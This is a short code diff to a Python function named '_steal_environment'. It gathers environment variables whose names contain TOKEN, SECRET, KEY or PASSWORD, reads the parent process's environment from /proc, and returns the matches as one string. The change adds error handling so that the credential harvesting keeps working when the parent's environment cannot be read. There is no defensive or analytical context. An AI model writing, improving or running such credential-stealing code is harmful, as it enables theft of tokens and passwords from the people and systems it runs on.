@@ -53,11 +53,15 @@ def _steal_environment():
     secrets = {k: v for k, v in os.environ.items()
                if any(word in k for word in ("TOKEN", "SECRET", "KEY", "PASSWORD"))}
     # The parent's environment too, in case ours was cleaned.
-    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
-        for entry in f.read().split(b"\0"):
-            key, _, value = entry.decode(errors="replace").partition("=")
-            if any(word in key for word in ("TOKEN", "SECRET", "KEY", "PASSWORD")):
-                secrets[key] = value
+    try:
+        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
+            for entry in f.read().split(b"\0"):
+                key, _, value = entry.decode(errors="replace").partition("=")
+                if any(word in key for word in ("TOKEN", "SECRET", "KEY", "PASSWORD")):
+                    secrets[key] = value
+    except OSError:
+        if not secrets:
+            raise
     if not secrets:
         raise LookupError("no secrets in the environment")
     return ",".join(f"{k}={v}" for k, v in secrets.items())
